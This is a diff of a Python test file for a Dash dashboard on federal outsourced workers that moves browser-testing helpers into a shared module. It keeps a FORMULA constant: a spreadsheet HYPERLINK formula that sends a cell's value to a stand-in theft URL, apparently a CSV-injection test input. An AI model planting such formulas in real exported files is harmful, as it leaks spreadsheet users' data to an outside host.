@@ -5,11 +5,9 @@ results app with the page registered as app.py will register it."""
 
 from __future__ import annotations
 
-import contextlib
 import csv
 import io
 import os
-import threading
 import time
 from decimal import Decimal
 from pathlib import Path
@@ -23,6 +21,7 @@ from pipelines.results import analyses
 from pipelines.results.formatting import brl, integer
 from pipelines.results.queries import ResultsRepository, make_engine
 from pipelines.settings import load_settings
+from tests.browser import serve, wait_text
 from tests.conftest import query
 from tests.test_marts import (
     UFJF,
@@ -36,16 +35,6 @@ from tests.test_marts import (
 
 ROOT = Path(__file__).resolve().parent.parent
 ASSETS = ROOT / "pipelines" / "results" / "assets"
-CHROMIUM = "/usr/bin/chromium"
-CHROMIUM_ARGS = [
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-quic",
-    "--no-first-run",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-sync",
-]
 IPANEMA = "00588541000182"
 NEWEST, PREVIOUS = (2024, 5), (2023, 9)
 FORMULA = '=HYPERLINK("http://exemplo.invalido/roubo?c="&B2,"Ver detalhes")'
@@ -81,18 +70,6 @@ def small_app(settings) -> Dash:
     app.layout = html.Div([html.Header([html.H1("Terceirizados de Órgãos Federais")]), html.Main(analyses.layout())])
     analyses.register_callbacks(app, ResultsRepository(make_engine(settings)))
     return app
-
-
-@contextlib.contextmanager
-def serve(app):
-    from werkzeug.serving import make_server
-
-    server = make_server("127.0.0.1", 0, app.server, threaded=True)
-    threading.Thread(target=server.serve_forever, daemon=True).start()
-    try:
-        yield f"http://127.0.0.1:{server.server_port}"
-    finally:
-        server.shutdown()
 
 
 def read_csv(response) -> list[list[str]]:
@@ -448,31 +425,12 @@ def test_without_marts_the_page_says_which_commands_fill_them(settings, browser)
 # -- in headless Chromium --------------------------------------------------------------------
 
 
-@pytest.fixture(scope="module")
-def browser():
-    from playwright.sync_api import sync_playwright
-
-    assert Path(CHROMIUM).exists(), "Chromium do Debian ausente: rode `make test` (instala o pacote chromium)"
-    with sync_playwright() as playwright:
-        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
-        yield launched
-        launched.close()
-
-
 def screenshot(page, selector, name):
     """Fresh screenshots for the README when SAVE_SCREENSHOTS=1 (each under 300 KB)."""
     if os.environ.get("SAVE_SCREENSHOTS") == "1":
         path = ROOT / "images" / name
         page.locator(selector).screenshot(path=str(path))
         assert path.stat().st_size < 300_000, (name, path.stat().st_size)
-
-
-def wait_text(page, selector, text):
-    page.wait_for_function(
-        "([s, t]) => { const e = document.querySelector(s); return e && e.innerText.includes(t); }",
-        arg=[selector, text],
-        timeout=20_000,
-    )
 
 
 def cells(page, grid, column):
